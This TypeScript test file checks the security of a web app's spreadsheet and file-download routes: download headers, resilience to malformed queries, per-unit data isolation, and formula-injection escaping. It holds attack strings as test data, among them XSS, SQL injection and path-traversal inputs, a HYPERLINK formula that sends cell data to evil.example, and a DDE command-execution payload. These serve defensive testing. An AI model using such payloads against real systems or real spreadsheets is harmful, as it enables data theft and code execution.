import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { readdir } from "node:fs/promises";
import path from "node:path";
import ExcelJS from "exceljs";
import { useTestDatabase } from "@/test/test-db";
import { sheetRows } from "@/test/sheet";
import { getDb } from "@/db/client";
import { departments } from "@/db/schema";
import { as, resetActorCache, SETUP_TIMEOUT, taskAt } from "@/lib/services/tasks/test-fixtures";
import { openSheet } from "@/lib/export/xlsx";
import { buildUserExport } from "@/lib/services/admin/users/user-sheet";
import type { Actor } from "@/lib/domain/policy";

// The download routes as Next calls them, with the signed-in user replaced by `signedIn`.
let signedIn: Actor | null = null;
vi.mock("@/lib/auth/viewer", () => ({
  getViewer: async () => signedIn,
  actingViewer: async () => signedIn,
}));

/**
 * 等保 2.0 (issue 11), downloads: every route that answers with a file answers it as an attachment with an
 * RFC 5987 name, nosniff and a sandbox policy; garbage in the query never gives a 500; a unit's export holds
 * only its own unit; a cell that looks like a formula is written as text.
 */

// Every route.ts whose response is a file; the test below fails when a new one is added without being listed.
const FILE_ROUTES: Record<string, () => Promise<{ GET: (request: Request) => Promise<Response> }>> = {
  "app/(app)/admin/users/export/route.ts": () => import("@/app/(app)/admin/users/export/route"),
  "app/(app)/admin/users/import/template/route.ts": () => import("@/app/(app)/admin/users/import/template/route"),
  "app/(app)/dashboard/behind/export/route.ts": () => import("@/app/(app)/dashboard/behind/export/route"),
  "app/(app)/messages/notifications/export/route.ts": () => import("@/app/(app)/messages/notifications/export/route"),
  "app/(app)/stats/assignments/export/route.ts": () => import("@/app/(app)/stats/assignments/export/route"),
  "app/(app)/stats/business/export/route.ts": () => import("@/app/(app)/stats/business/export/route"),
  "app/(app)/stats/scores/export/route.ts": () => import("@/app/(app)/stats/scores/export/route"),
  "app/(app)/stats/supervision/export/route.ts": () => import("@/app/(app)/stats/supervision/export/route"),
};
// Who may call each (the office's clerk holds the statistics and messages permissions, the admin the users).
const CALLER: Record<string, string> = {
  "app/(app)/admin/users/export/route.ts": "admin",
  "app/(app)/admin/users/import/template/route.ts": "admin",
  "app/(app)/dashboard/behind/export/route.ts": "qld",
};

let cleanup: () => Promise<void>;

beforeAll(async () => {
  resetActorCache();
  ({ cleanup } = await useTestDatabase());
  await taskAt("in_progress");
}, SETUP_TIMEOUT);
afterAll(async () => {
  await cleanup?.();
});

async function routeFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true });
  return entries.map(String).filter((e) => e.endsWith("route.ts")).map((e) => path.join(dir, e).split(path.sep).join("/"));
}

function expectFileHeaders(response: Response) {
  expect(response.status).toBe(200);
  expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+,;=:@-]+$/);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  expect(response.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
  expect(response.headers.get("cache-control")).toBe("private, no-store");
}

describe("file downloads", () => {
  it("the list of file routes is complete (every export/ and template/ route.ts under app)", async () => {
    const files = (await routeFiles("app")).filter((f) => /\/(export|template)\/route\.ts$/.test(f));
    expect(files.sort()).toEqual(Object.keys(FILE_ROUTES).sort());
  });

  it.each(Object.keys(FILE_ROUTES))("%s answers an attachment with nosniff and a sandbox policy", async (file) => {
    signedIn = await as(CALLER[file] ?? "dcs_jbr");
    const { GET } = await FILE_ROUTES[file]!();
    const response = await GET(new Request("http://localhost/x"));
    expectFileHeaders(response);
    await response.arrayBuffer();
  });

  const GARBAGE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE tasks; --", "' OR '1'='1", "x".repeat(100_000), "\u0001\u001b\u007f", "a\u0000b", "👨‍👩‍👧", "\u202Egpj.exe", "-1", "9".repeat(40), "../../etc/passwd"];
  const PARAMS = ["q", "unit", "source", "type", "status", "from", "to", "year", "month", "period", "metric", "dim", "sort", "dir", "page", "kind", "channel", "department", "role", "enabled"];

  it.each(Object.keys(FILE_ROUTES))("%s never answers 500 to garbage in the query", async (file) => {
    signedIn = await as(CALLER[file] ?? "dcs_jbr");
    const { GET } = await FILE_ROUTES[file]!();
    for (const value of GARBAGE) {
      const query = PARAMS.map((p) => `${p}=${encodeURIComponent(value)}`).join("&");
      const response = await GET(new Request(`http://localhost/x?${query}`));
      expect([200, 400, 404], `${file} ?…=${JSON.stringify(value.slice(0, 20))}`).toContain(response.status);
      if (response.status === 200) await sheetRows(response);
      else await response.arrayBuffer();
    }
  });

  it("绩效考核排名's sheet, exported by a unit, holds its own unit and no other", async () => {
    const { GET } = await FILE_ROUTES["app/(app)/stats/scores/export/route.ts"]!();
    signedIn = await as("dcs_jbr");
    const all = (await sheetRows(await GET(new Request("http://localhost/stats/scores/export")))).join("\n");
    expect(all).toContain("区教委");
    expect(all).toContain("区民政局");
    signedIn = await as("jw_jbr");
    const own = await GET(new Request("http://localhost/stats/scores/export"));
    expect(own.status).toBe(200);
    const rows = (await sheetRows(own)).join("\n");
    expect(rows).toContain("区教委");
    const others = (await getDb().select({ name: departments.name }).from(departments)).map((d) => d.name).filter((n) => !"区教委".includes(n));
    expect(others.filter((name) => all.includes(name)).length).toBeGreaterThan(5);
    expect(others.filter((name) => rows.includes(name))).toEqual([]);
  });
});

describe("formula injection", () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"];

  async function cells(buffer: Buffer | ArrayBuffer) {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as ArrayBuffer);
    const out: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => out.push(cell)));
    return out;
  }

  it("the streaming sheet writer (every statistics and message export) stores =, +, -, @ values as text, not formulas", async () => {
    const viewer = await as("dcs_jbr");
    const writer = openSheet({ title: "测试", viewer, filters: "全部", total: "共 1 条", columns: FORMULAS.map((_, i) => ({ header: `列${i}`, width: 10 })) });
    const chunks: Buffer[] = [];
    writer.stream.on("data", (c: Buffer) => chunks.push(c));
    const ended = new Promise((resolve) => writer.stream.on("end", resolve));
    writer.add(FORMULAS);
    await writer.done();
    await ended;
    const written = (await cells(Buffer.concat(chunks))).filter((c) => FORMULAS.includes(String(c.value)));
    expect(written).toHaveLength(FORMULAS.length);
    for (const cell of written) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });

  it("the user export does the same for names", async () => {
    const buffer = await buildUserExport(
      FORMULAS.map((f, i) => ({ username: `u${i}`, displayName: f, mobile: f, departmentName: f, roleNames: [f], smsRecipient: false, enabled: true, lastLoginAt: null })),
    );
    const written = (await cells(buffer)).filter((c) => FORMULAS.some((f) => String(c.value).includes(f)));
    expect(written.length).toBeGreaterThanOrEqual(FORMULAS.length * 3);
    for (const cell of written) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });
});
